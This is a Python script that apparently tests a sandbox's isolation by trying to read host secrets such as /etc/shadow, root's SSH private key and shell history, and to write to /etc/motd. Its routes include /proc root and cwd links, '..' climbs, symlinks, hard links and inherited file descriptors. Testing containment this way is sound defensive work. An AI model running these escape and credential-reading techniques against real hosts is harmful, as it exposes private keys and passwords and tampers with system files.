"""Reads and writes files of the host, by path and by indirect routes."""

from __future__ import annotations

import os
from pathlib import Path

from attempts import GIVEN, attempt

SECRET = GIVEN.get("file", "/etc/shadow")
WRITABLE = GIVEN.get("writable", "/etc/motd")
DETOURS = """
    /proc/1/root /proc/self/root /proc/1/cwd /proc/self/cwd /proc/2/root
    /fumehood/.. /fumehood/../../../.. /tmp/../.. /dev/fd/../../../../.. /agent/../..
""".split()
OTHERS = """
    /etc/shadow /root/.ssh/id_rsa /root/.bash_history /var/lib/docker /var/log/syslog /home
""".split()


def read(path: str) -> str:
    if os.path.isdir(path):
        return ",".join(os.listdir(path))
    return Path(path).read_text(encoding="utf-8", errors="replace")


def overwrite(path: str) -> str:
    with open(path, "a", encoding="ascii") as file:
        file.write("changed\n")
    return "written"


def create_beside(path: str) -> str:
    made = os.path.join(os.path.dirname(path), "made")
    with open(made, "x", encoding="ascii") as file:
        file.write("changed\n")
    return made


def by_link() -> str:
    link = "/tmp/link"
    os.symlink(SECRET, link)
    return read(link)


def by_hard_link() -> str:
    os.link(SECRET, "/tmp/hard")
    return read("/tmp/hard")


def by_open_folder() -> str:
    """Climb above the root from open folders."""
    for fd in range(64):
        try:
            descriptor = os.open(f"{'../' * 16}{SECRET.lstrip('/')}", os.O_RDONLY, dir_fd=fd)
        except OSError:
            continue
        return os.read(descriptor, 4096).decode(errors="replace")
    return ""


for detour in ("", *DETOURS):
    attempt(f"read {detour}{SECRET}", read, detour + SECRET)
    attempt(f"write {detour}{WRITABLE}", overwrite, detour + WRITABLE)
attempt("make a file beside it", create_beside, WRITABLE)
attempt("read by a link", by_link)
attempt("read by a hard link", by_hard_link)
attempt("read by an open folder", by_open_folder)
for path in OTHERS:
    attempt(f"read {path}", read, path)
